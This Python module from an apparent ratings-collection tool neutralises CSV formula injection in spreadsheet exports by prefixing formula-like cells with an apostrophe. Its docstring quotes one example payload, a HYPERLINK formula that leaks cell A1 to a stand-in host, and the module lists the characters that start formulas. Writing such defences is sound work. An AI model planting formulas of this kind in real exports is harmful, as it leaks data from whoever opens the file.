"""Cells for files people open in a spreadsheet: no formula ever comes from the data.

A kiosk (or anyone holding its token) chooses the text of a rating's fields.
Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and some also a tab or carriage return followed by one, so a
reason like ``=HYPERLINK("http://evil.example/?"&A1,"Open")`` in an export
would run on the office computer that opens it (CSV injection, OWASP).

:func:`cell` is the one place that decides what a text cell may start with:
every CSV writer (the API export, the dashboard's downloads and
``hymy-collector export``, all through :func:`csv_text`) uses it, and an XLSX
writer must too.  Numbers stay numbers; only text is changed.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

#: A text cell starting with one of these is read as a formula (OWASP's list,
#: plus the full-width forms some spreadsheets also accept).
FORMULA_STARTS = frozenset("=+-@\t\r\n" "\uff1d\uff0b\uff0d\uff20")
#: Characters that make a CSV field need quotes.
_NEEDS_QUOTES = frozenset(',"\r\n')
#: First characters worth a closer look (a space may hide a formula after it).
_SUSPECT_STARTS = FORMULA_STARTS | {" "}


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could take ``text`` for a formula.

    Leading spaces are looked through: some programs trim them on import.
    """
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet: formula-like text gets a leading ``'``.

    The apostrophe is what spreadsheets themselves use to say "this is text",
    so the cell shows the original characters and nothing runs.  Numbers,
    booleans and None are returned unchanged: ``-0.5`` stays a number.
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_field(value: Any) -> str:
    """One CSV field: booleans as 0/1, None as empty, text through :func:`cell`.

    A neutralised cell is always quoted (OWASP: prefix *and* quote), as is
    any text with a comma, quote or line break; quotes inside are doubled.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(int(value))
    if isinstance(value, int | float):
        return repr(value) if isinstance(value, float) else str(value)
    text = str(value)
    safe = cell(text)
    if safe is not text or any(ch in _NEEDS_QUOTES for ch in safe):
        return '"' + safe.replace('"', '""') + '"'
    return safe


def csv_text(
    items: Iterable[dict[str, Any]], columns: Sequence[str], header: bool = True
) -> str:
    """CSV text with ``columns`` in order, one ``\\n``-terminated line per item.

    Rows without a formula-like cell (nearly all) go through the C ``csv``
    writer; the few others through :func:`csv_field`, which quotes what it
    changed.  Both write the same text for the same ordinary cells.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    if header:  # column names are ours, never a formula
        writer.writerow(columns)
    for item in items:
        row = [item.get(column) for column in columns]
        if any(isinstance(value, str) and value[:1] in _SUSPECT_STARTS
               and is_formula_like(value) for value in row):
            buffer.write(",".join(csv_field(value) for value in row) + "\n")
        else:
            writer.writerow([int(value) if value.__class__ is bool else value for value in row])
    return buffer.getvalue()
